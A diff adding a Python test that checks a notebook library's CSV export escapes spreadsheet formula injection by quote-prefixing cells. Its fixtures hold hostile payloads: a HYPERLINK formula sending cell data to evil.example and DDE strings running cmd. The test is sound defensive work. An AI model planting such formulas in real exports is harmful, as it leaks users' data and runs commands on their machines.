@@ -110,3 +110,34 @@ def test_one_column_name_one_label_that_fits_every_report():
     headed "Provider | Violation | Name")."""
     page = nb.table(pd.DataFrame({"provider": ["AWS"], "type": ["Reserved Instance"], "name": ["ri-1"]}))._repr_html_()
     assert ">Type<" in page and "Violation" not in page
+
+
+def _csv_rows(markup: str) -> list[list[str]]:
+    import csv
+    import io
+
+    uri = re.search(r'href="data:text/csv;base64,([^"]+)"', markup).group(1)
+    return list(csv.reader(io.StringIO(base64.b64decode(uri).decode("utf-8"), newline="")))
+
+
+def test_csv_download_cannot_run_a_formula_in_a_spreadsheet():
+    """The tag audit's CSV download held tag values a spreadsheet runs as formulas (``=HYPERLINK(...&A2...)`` sends
+    a cell to another site, ``@SUM(...)*cmd|...`` runs a command): every text cell starting with = + - @, tab or CR
+    is prefixed with a single quote (OWASP), column names too."""
+    hostile = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|x",
+               "-2+3", "\tq", "\r=1", "ok", None]
+    df = pd.DataFrame({"tag_value": hostile, "=cost": [-12.5, -1.0, 0.0, 2.5, -3.0, 4.0, -5.0, 6.0],
+                       "team": pd.Categorical(["=a", "b", "c", "d", "e", "f", "g", "h"]),
+                       "rows": pd.array([-1, 2, None, 4, 5, 6, 7, 8], dtype="Int64"),
+                       "note": ["-12.5", "+3", "-1e-3", "-", "-x", "a", "b", "c"]})
+    rows = _csv_rows(nb.table(df, max_rows=2).markup)
+    head, body = rows[0], rows[1:]
+    assert sorted(head) == sorted(["tag_value", "team", "'=cost", "rows", "note"])
+    col = {h: [r[i] for r in body] for i, h in enumerate(head)}
+    assert col["tag_value"] == ["'" + v for v in hostile[:6]] + ["ok", ""]
+    assert col["team"][0] == "'=a" and col["team"][1:] == list("bcdefgh")
+    # numbers stay numbers: a numeric column's negatives, and a text cell that is only a number
+    assert col["'=cost"][:2] == ["-12.5", "-1.0"] and col["rows"][:3] == ["-1", "2", ""]
+    assert col["note"] == ["-12.5", "+3", "-1e-3", "'-", "'-x", "a", "b", "c"]
+    assert df["tag_value"][0].startswith("=") and "=cost" in df.columns  # the caller's frame is not changed
+    assert len(body) == len(df)  # the CR inside a cell is quoted: it starts no row of its own
